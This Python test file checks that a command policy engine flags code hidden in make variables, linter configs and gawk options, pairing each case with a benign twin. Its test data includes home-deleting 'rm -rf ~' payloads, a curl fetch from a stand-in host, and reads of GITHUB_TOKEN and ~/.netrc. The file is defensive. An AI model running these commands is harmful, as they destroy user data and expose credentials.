"""The default pack against code hidden in the values of trusted programs, each with a benign
twin that stays allowed.

A make variable on the command line is expanded by make and pasted into recipe lines
(``make V='$(shell rm -rf ~)'``), and a command variable is run by them (``make RM='rm -rf ~'``);
a linter's configuration from outside the workspace names plugins it loads (mypy's
``plugins``, pylint's ``load-plugins``, an ``eslint.config.js`` is code itself); gawk's
``-e``/``--source`` is the program text, as the first operand is for awk.
"""

from __future__ import annotations

import pytest
from pack_support import check_distinct, check_twin, pack_policy  # noqa: F401  (the fixture)

from clearance.engine.rules import PolicySet

CODE = "default/ask-code-exec"
SECRETS = "default/no-secret-reads"

#: (technique, malicious command, its decision, rule id or reason code, benign twin)
TWINS = [
    # --- make variables ----------------------------------------------------------------------
    ("make/function", "make VERSION='$(shell rm -rf ~)'", "ask", CODE, "make VERSION=1.2.3"),
    ("make/escaped-dollar", "make X='$$(curl -s x.example)'", "ask", CODE, "make X=plain all"),
    ("make/operator", "make 'NAME=a; id'", "ask", CODE, "make NAME=a test"),
    (
        "make/command-variable",
        "make RM='rm -rf ~' clean",
        "deny",
        "default/no-delete-root-or-home",
        "make RM=rm clean",
    ),
    ("make/compiler-path", "make CC=/tmp/evil", "ask", CODE, "make CC=clang"),
    # --- configurations that load plugins ----------------------------------------------------
    ("lint/eslint-config", "eslint -c /tmp/x.js .", "ask", CODE, "eslint -c eslint.config.js ."),
    (
        "lint/mypy-config",
        "mypy --config-file /tmp/x.ini src",
        "ask",
        CODE,
        "mypy --config-file mypy.ini src",
    ),
    (
        "lint/pylint-rcfile",
        "pylint --rcfile=/tmp/rc src",
        "ask",
        CODE,
        "pylint --rcfile=.pylintrc src",
    ),
    ("lint/flake8-home", "flake8 --config ~/x.cfg", "ask", CODE, "flake8 --config setup.cfg"),
    # --- gawk's program as an option -----------------------------------------------------------
    (
        "awk/source-system",
        "gawk -e 'BEGIN{system(\"rm -rf ~\")}'",
        "deny",
        "default/no-delete-root-or-home",
        "gawk -e '{print $1}' data.txt",
    ),
    (
        "awk/source-environ",
        "gawk --source='BEGIN{print ENVIRON[\"GITHUB_TOKEN\"]}'",
        "deny",
        SECRETS,
        "gawk --source='{print NF}' data.txt",
    ),
    (
        "awk/source-file-read",
        "gawk -e '{print}' ~/.netrc",
        "deny",
        SECRETS,
        "gawk -e '{print}' notes.txt",
    ),
]


@pytest.mark.parametrize(
    ("technique", "bad", "decision", "why", "twin"), TWINS, ids=[t[0] for t in TWINS]
)
def test_evasion_and_twin(
    policy: PolicySet, technique: str, bad: str, decision: str, why: str, twin: str
) -> None:
    check_twin(policy, bad, decision, why, twin)


def test_techniques_are_distinct() -> None:
    check_distinct(TWINS)
